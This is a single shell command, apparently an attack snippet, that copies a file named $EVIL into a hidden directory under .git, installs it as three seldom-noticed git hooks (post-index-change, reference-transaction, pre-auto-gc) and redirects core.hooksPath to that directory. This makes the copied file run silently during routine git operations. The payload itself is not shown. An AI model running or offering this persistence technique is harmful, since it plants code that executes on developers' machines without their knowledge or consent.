mkdir -p .git/elsewhere-hooks && for h in post-index-change reference-transaction pre-auto-gc; do cp "$EVIL" .git/elsewhere-hooks/$h; done && git config core.hooksPath "$PWD/.git/elsewhere-hooks"
